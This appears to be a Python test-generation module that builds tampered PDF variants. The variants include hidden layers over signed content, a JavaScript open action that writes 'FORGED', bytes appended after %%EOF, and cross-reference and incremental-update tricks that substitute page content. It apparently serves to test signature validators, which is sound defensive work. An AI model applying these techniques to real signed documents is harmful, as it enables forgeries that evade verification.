@_is("layers", "a hidden layer added over the page")
@_pages_edit
def _(pdf: Pdf) -> list[Object]:
    group = _layered(pdf, visible=False)
    return [pdf.Root, group]


@_is("layers", "a drawn object put on a layer that is off")
@_pages_edit
def _(pdf: Pdf) -> list[Object]:
    drawn = pdf.pages[0].obj.Resources.get("/XObject")
    if drawn is None or not list(drawn.keys()):
        raise NotPossible
    target = drawn[min(drawn.keys())]
    group = _layered(pdf, visible=False)
    target.OC = group
    return [pdf.Root, group, target]


@_is("layers", "a seal put on a layer that is off")
@_pages_edit
def _(pdf: Pdf) -> list[Object]:
    field = _last_shown(pdf)
    group = _layered(pdf, visible=False)
    field.OC = group
    return [pdf.Root, group, field]


@_is("actions", "a script when the file is opened")
@_pages_edit
def _(pdf: Pdf) -> list[Object]:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("this.getField('x').value='FORGED'"))
    return [pdf.Root]


@_is("actions", "scripts on a page")
@_pages_edit
def _(pdf: Pdf) -> list[Object]:
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("http://127.0.0.1/")))
    return [page]


# ---- behind the end


_TAILS = {
    "zeros": b"\0" * 64,
    "spaces": b"   ",
    "line ends": b"\n\n\n",
    "a comment": b"% nothing to see\n",
    "an end mark": b"%%EOF\n",
    "an object": b"7 0 obj\n<< /Type /Nothing >>\nendobj\n",
    "a startxref": b"startxref\n0\n%%EOF\n",
    "text": b"FORGED",
    "a kilobyte of zeros": b"\0" * 1024,
    "a zip": b"PK\3\4" + b"\0" * 60,
}
for _name, _text in _TAILS.items():
    _is("behind the end", _name)(lambda data, text=_text: data + text)


@_is("behind the end", "a second file")
def _(data: bytes) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.save(out)
    return data + out.getvalue()


@_is("behind the end", "the same file once more")
def _(data: bytes) -> bytes:
    return data + data


@_is("behind the end", "another file before it")
def _(data: bytes) -> bytes:
    return b"%PDF-1.4\n% first\n" + data


# ---- tables


@_is("tables", "Prev of the update leads to itself")
def _(data: bytes) -> bytes:
    altered = updated(data, forged_content)
    start = attacks.last_startxref(altered)
    old = b"/Prev %d" % attacks.last_startxref(data)
    at = altered.rindex(old)
    return altered[:at] + b"/Prev %d" % start + altered[at + len(old) :]


@_is("tables", "Prev of the update skips the last revision")
def _(data: bytes) -> bytes:
    altered = updated(data, forged_content)
    first = int(re.findall(rb"startxref\s+(\d+)", data)[0])
    old = b"/Prev %d" % attacks.last_startxref(data)
    at = altered.rindex(old)
    return altered[:at] + b"/Prev %d" % first + altered[at + len(old) :]


@_is("tables", "hybrid: an XRefStm hides another content")
def _(data: bytes) -> bytes:
    """Readers that know cross-reference streams take the content from it, others do not (ISO 32000-1, 7.5.8.4)."""
    number = attacks.page_content_number(data)
    out = bytearray(data)
    content_at = len(out)
    out += b"%d 0 obj\n%s\nendobj\n" % (number, attacks.other_content())
    stream_at = len(out)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        size = int(pdf.trailer.Size)
        trailer = trailer_of(pdf, attacks.last_startxref(data), size + 1)
        root = int(pdf.Root.objgen[0])
    entry = b"\1" + content_at.to_bytes(4, "big") + b"\0"
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 1] /Index [%d 1] /Root %d 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (size, size + 1, number, root, len(entry), entry)
    )
    table_at = len(out)
    hybrid = trailer[:-2] + b" /XRefStm %d >>" % stream_at
    out += b"xref\n0 0\ntrailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (hybrid, table_at)
    return bytes(out)


@_is("tables", "the update is a cross-reference stream")
def _(data: bytes) -> bytes:
    number = attacks.page_content_number(data)
    out = bytearray(data)
    content_at = len(out)
    out += b"%d 0 obj\n%s\nendobj\n" % (number, attacks.other_content())
    start = len(out)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        size = int(pdf.trailer.Size)
        head = trailer_of(pdf, attacks.last_startxref(data), size + 1)
    rows = b"\1" + content_at.to_bytes(4, "big") + b"\0" + b"\1" + start.to_bytes(4, "big") + b"\0"
    out += b"%d 0 obj\n%s /Type /XRef /W [1 4 1] /Index [%d 1 %d 1] /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        size,
        head[:-2],
        number,
        size,
        len(rows),
        rows,
    )
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % start


@_is("tables", "an object stream brings another content dictionary")
def _(data: bytes) -> bytes:
    """The page dictionary in an object stream, with a page content of its own."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        page = pdf.pages[0].obj
        number = int(page.objgen[0])
        size = int(pdf.trailer.Size)
        told = re.sub(rb"/Contents (\[[^\]]*\]|\d+ \d+ R)", b"/Contents %d 0 R" % size, page.unparse(resolved=True))
        head = trailer_of(pdf, attacks.last_startxref(data), size + 3)
    out = bytearray(data)
    content_at = len(out)
    out += b"%d 0 obj\n%s\nendobj\n" % (size, attacks.other_content())
    held_at = len(out)
    index = b"%d 0 " % number
    packed = zlib.compress(index + told)
    out += (
        b"%d 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (size + 1, len(index), len(packed), packed)
    )
    start = len(out)
    rows = b"\2" + (size + 1).to_bytes(4, "big") + b"\0"
    for offset in (content_at, held_at, start):
        rows += b"\1" + offset.to_bytes(4, "big") + b"\0"
    out += b"%d 0 obj\n%s /Type /XRef /W [1 4 1] /Index [%d 1 %d 3] /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        size + 2,
        head[:-2],
        number,
        size,
        len(rows),
        rows,
    )
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % start
